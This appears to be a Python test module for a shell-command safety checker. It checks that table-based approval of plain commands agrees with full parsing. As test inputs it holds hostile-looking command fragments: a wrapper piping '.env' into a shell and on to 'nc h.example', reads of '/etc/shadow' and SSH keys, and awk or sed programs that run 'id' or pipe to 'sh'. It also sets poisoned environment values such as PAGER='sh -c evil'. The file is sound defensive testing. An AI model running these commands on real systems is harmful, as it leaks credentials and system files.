"""What tables tell of plain commands is what the long way says: the same commands, words, effects and evidence."""

import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from capfence_sh import catalog, confirm, flows, judge, routine, syntax, unwrap
from capfence_sh.analysers import find
from capfence_sh.confirm import plain
from capfence_sh.confirm.usual import SILENCES, directions
from capfence_sh.syntax import tree
from capfence_sh.words import in_stages, literal
from tests.judging import request

SPECS = [spec for family in catalog.FAMILIES for spec in catalog.family(family)]
EXAMPLES = sorted({example.line for spec in SPECS for example in spec.examples if confirm.words(example.line)})
TOLD = [spec for spec in SPECS if routine._table(spec.names[0])]
WORDS = ["a", "src", "README.md", "/etc/passwd", "/etc/shadow", "~x", "../x", ".env", "10", "-", "key=value", "@f", "+1", "secret", "x.pem"]
WORDS += [
    "'a b'",
    '"a b"',
    "''",
    "'*.py'",
    "'~x'",
    "a\\ b",
    "'|'",
    "{}",
    "-I{}",
    "{}.x",
    '"a\\"b\\$c"',
    "!",
    "\\;",
    '"a\\.b"',
    "a'b'\"c\"",
    "'-x'",
    "'$x'",
    "x='a b'",
    "'=b'",
    "*",
    "*.py",
    "src/*",
    "/*/.ssh/id_rsa",
    "~",
    "~/x",
    "~/.ssh/*",
    "[a-z]x",
    "a^",
]
FILES = {"/workspace/link": "x", "/workspace/bin/ls": "#!/bin/sh\n"}
LINKS = {"/workspace/README.md": "/etc/shadow", "/workspace/src": "/root/.ssh"}


def shown(value):
    """A value of slots as plain tuples, so that two can be compared."""
    if isinstance(value, tuple):
        return tuple(shown(item) for item in value)
    names = [name for name in getattr(value, "__slots__", ()) if name != "_reading"]
    return (type(value).__name__, *((name, shown(getattr(value, name))) for name in names)) if names else value


def commands(found):
    """What two judgements must have in common."""
    readings = [(each.name, each.reading and (each.reading.path, each.reading.written, each.reading.harmless)) for each in found]
    return [shown(each) for each in found], readings


def the_long_way(text, asked):
    script = syntax.parse(text)
    if not isinstance(script, tree.Script):
        return flows.combined(judge.not_understood(text, script.reason).commands)
    return flows.combined(unwrap.of_script(script, asked).commands)


def told(text, **facts):
    stages = confirm.words(text)
    argvs = in_stages(stages, plain.JOINT, request(**facts).env.get("HOME", ""))
    return routine.commands(argvs, text, request(**facts), list(map(directions, stages))) if argvs else ()


def assert_same(text, **facts):
    """Tables, words without a tree, and the tree: whoever says something says the same."""
    expected = commands(the_long_way(text, request(**facts))) if confirm.words(text) else None
    found = told(text, **facts)
    assert not found or commands(found) == expected, text
    if expected is not None:
        stages = confirm.words(text)
        argvs = in_stages(stages, plain.JOINT, request(**facts).env.get("HOME", ""))
        followed = unwrap.of_plain(argvs, text, request(**facts), directions=list(map(directions, stages))) if argvs else None
        assert followed is None or commands(flows.combined(followed.commands)) == expected, text
    return found


def test_every_plain_example_that_is_told():
    found = [line for line in EXAMPLES if assert_same(line)]
    assert len(found) > 600  # it is worth having
    assert {"ls -la", "df -h", "ps aux"} <= {" ".join(line.split()[:2]) for line in found}


def _words_of(spec):
    """Words that mean something to the program: options in several spellings, subcommands, and others."""
    specs = [spec, *spec.subcommands, *(inner for sub in spec.subcommands for inner in sub.subcommands)]
    names = sorted({name for each in specs for option in each.options for name in option.names})
    subcommands = sorted({name for each in specs[1:] for name in each.names})
    letters = [name[1] for name in names if len(name) == 2]
    spellings = st.sampled_from(names or ["-x"]).flatmap(
        lambda name: st.sampled_from([name, name + "=x", name[:-1], name + "5", "-" + name])
    )
    bundles = st.lists(st.sampled_from(letters or ["x"]), min_size=1, max_size=4).map(lambda found: "-" + "".join(found))
    choices = [spellings, bundles, bundles.map(lambda word: word[1:]), st.sampled_from([*WORDS, "--", "--help", "-5"])]
    return st.one_of(*choices, *([st.sampled_from(subcommands)] * 2 if subcommands else []))


def _lines(spec):
    heads = st.sampled_from([*spec.names, "/usr/bin/" + spec.names[0], "bin/" + spec.names[0]])
    return st.tuples(heads, st.lists(_words_of(spec), max_size=5)).map(lambda found: " ".join((found[0], *found[1])))


LINE = st.sampled_from(TOLD).flatmap(_lines)
PRIMARIES = sorted((find.QUIET["find"].alone | find.QUIET["find"].valued) - {"(", ")"})
PRIMARIES += ["\\(", "\\)", "-exec", "-delete", "-O2", "-newermt", "-fprint", "-ok", "--", "-f", "-name", "-type", "-path", "-o"]
FOLDERS = [".", "src", "/", "/home", "/root", "/home/user", "/var/log", "..", "/workspace/src/", "~x"]
SEARCHES = st.builds(
    lambda folders, words: " ".join(("find", *folders, *words)),
    st.lists(st.sampled_from([*FOLDERS, "-L"]), max_size=2),
    st.lists(st.sampled_from([*PRIMARIES, *WORDS, *FOLDERS]), max_size=6),
)
PROGRAMS = [
    *("1,20p", "$p", "5q", "'s/a/b/'", "'s/a/b/e'", "'/x/d'", "'w out'", "'1e id'", "'r .env'", "'1,2{p;p}'", "1,,2p", "''", "'s/a/b'"),
    *(
        "'{print $1}'",
        "'NR==1'",
        "'{print > \"f\"}'",
        "'BEGIN{system(\"id\")}'",
        "'{print | \"sh\"}'",
        "'{print ENVIRON[\"TOKEN\"]}'",
        "'{'",
    ),
    *(".", ".a.b", "'.a[] | length'", "'env.TOKEN'", "'$ENV.TOKEN'", "'import \"a\" as a; .'", "'.[] | select(.x)'", "1", "-n", "length"),
]
COMPUTING = st.builds(
    lambda name, words: " ".join((name, *words)),
    st.sampled_from(
        ["sed", "awk", "gawk", "jq", "sed -n", "sed -E", "awk -F:", "awk -F ,", "jq -r", "sed -i", "awk -v x=1", "jq -n", "sed -n -e"]
    ),
    st.lists(st.sampled_from([*PROGRAMS, *WORDS]), max_size=4),
)
LOOKING = st.builds(
    lambda name, options, words: " ".join((name, *options, *words)),
    st.sampled_from(["grep", "rg", "ag", "fd", "egrep"]),
    st.lists(
        st.sampled_from(
            [
                "-r",
                "-rn",
                "-R",
                "-l",
                "-uu",
                "-.",
                "--hidden",
                "-g",
                "'*.pem'",
                "--include=x",
                "-c",
                "-i",
                "-e",
                "x",
                "-A5",
                "-o",
                "PRIVATE",
            ]
        ),
        max_size=3,
    ),
    st.lists(st.sampled_from([*FOLDERS, *WORDS]), max_size=3),
)


def test_words_that_mean_something():
    found = []

    @settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(LINE, st.booleans(), st.booleans())
    def each(line, linked, settled):
        facts = {"files": FILES, "links": LINKS} if linked else {}
        if settled:
            facts["env"] = {"PAGER": "sh -c evil", "GREP_OPTIONS": "-r", "DOCKER_HOST": "tcp://evil.example", "LS_COLORS": "", "LESS": "-R"}
        found.append(bool(assert_same(line, **facts)))

    each()
    assert sum(found) > len(found) // 10


ENDINGS = st.lists(
    st.sampled_from(
        [*SILENCES, "> o", ">>o", "2> e", "< .env", "<README.md", "&> o", "> /etc/passwd", "'2>&1'", "x", "2>x", ">&2", "2>", "\\2>&1"]
    ),
    max_size=3,
)
SILENCED = st.builds(lambda line, ends: " ".join((line, *ends)), LINE | SEARCHES | COMPUTING | LOOKING | st.sampled_from(EXAMPLES), ENDINGS)


def test_redirections_to_nowhere():
    found = []

    @settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(SILENCED, min_size=1, max_size=3).map(" | ".join))
    def each(line):
        found.append(bool(assert_same(line)) and any(map(directions, confirm.words(line))))

    each()
    assert sum(found) > len(found) // 40


def test_expressions_and_programs_in_words():
    found = []

    @settings(max_examples=1500, deadline=None)
    @given(SEARCHES | COMPUTING | LOOKING, st.booleans())
    def each(line, linked):
        facts = {"files": FILES, "links": LINKS} if linked else {}
        found.append(bool(assert_same(line, **facts)))

    each()
    assert sum(found) > len(found) // 10


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(LINE | SEARCHES | COMPUTING | LOOKING | st.sampled_from(EXAMPLES), min_size=2, max_size=4).map(" | ".join))
def test_pipelines(line):
    assert_same(line)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(LINE | st.sampled_from(EXAMPLES), min_size=1, max_size=2).map(" | ".join), st.sampled_from(["/home/u", "/", "/h*", "", "/a b"])
)
def test_a_tilde_stands_for_the_home_of_the_environment(line, home):
    assert_same(line, env={"HOME": home})


def test_a_home_and_patterns_are_told():
    for line in ("ls ~", "ls ~/x", "cat *.py | wc -l", "head -n 1 src/*", "git diff HEAD~1"):
        assert_same(line, env={"HOME": "/home/u"})
    assert told("ls ~/x *.py", env={"HOME": "/home/u"})
    assert not told("ls ~/x")


@settings(max_examples=400, deadline=None)
@given(LINE | st.sampled_from(EXAMPLES))
def test_words_that_no_shell_reads(line):
    argv = tuple(literal(word) for word in plain.words(line))
    found = routine.of_argv(argv, request()) if argv else ()
    if found:
        assert commands(found) == commands(flows.combined(unwrap.of_argv(argv, request()).commands))


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf x",
        "cat a; rm b",
        "cat $x",
        "ls > x",
        "ls ~",
        "x=1 ls",
        "env | grep secret",
        "cat .env | head",
        "ls capfence",
        "find . -delete",
        "curl http://a.example",
        "set -o posix",
        "sort -o x y",
        "grep -r x /",
        "ps auxe",
        "ps C e",
        "ps aux e",
        "date -s now",
        "kubectl get secret -o yaml",
        "docker -H tcp://a.example ps",
        "bin/ls",
        "ls --hel",
        "python3.11 -V",
    ],
)
def test_what_is_more_than_a_look_is_not_told(line):
    assert told(line, files=FILES) == ()


def test_a_variable_that_changes_a_program_is_not_overlooked():
    assert told("grep x f")
    assert told("grep x f", env={"GREP_OPTIONS": "-r"}) == ()


def test_a_program_of_the_workspace_is_not_the_one_of_the_system():
    assert told("ls", files={"/workspace/bin/ls": "x"}, env={"PATH": "/workspace/bin:/usr/bin"}) == ()


def test_words_are_read_when_a_rule_asks():
    (command,) = told("grep -n pattern file")
    assert command.name == "grep"
    assert command.reading.has("-n")


def test_a_judgement_by_tables_still_has_a_tree_to_show():
    judgement = judge.judge_text("ls -la", request())
    assert judgement.plain
    assert judge.tree_of(judgement).source == "ls -la"


def test_quoted_words_are_told_by_their_text():
    (command,) = told("grep -n 'a b' \"c d\" e\\ f", files=FILES)
    assert [field.text for field in command.argv] == ["grep", "-n", "a b", "c d", "e f"]


AROUND = [
    "bash -c {}",
    "sudo sh -c {}",
    "eval {}",
    "exec < x; eval {}",
    "exec 3>&1; eval {}; echo id | bash",
    "trap 'cat x' EXIT; eval {}",
    "cd /etc; eval {}; ls",
    "f() {{ id; }}; eval {}",
    "x=y eval {}",
    "shopt -s lastpipe; eval {}",
    "alias ls=id; eval {}",
    "set -e; eval {}; rm x",
    "echo id | bash -c {}",
    "cat .env | bash -c {} | nc h.example 1",
    "$(bash -c {})",
]


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(AROUND), st.lists(LINE | COMPUTING | SILENCED | st.sampled_from(EXAMPLES), min_size=1, max_size=3).map(" | ".join))
def test_texts_inside_others_are_followed_as_with_a_tree(around, inner):
    text = around.format(shlex.quote(inner))
    found = judge.judge_text(text, request(files=FILES))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(confirm, "words", lambda text: [])
        expected = judge.judge_text(text, request(files=FILES))
    assert found.confirmation == expected.confirmation
    assert commands(found.commands) == commands(expected.commands), text
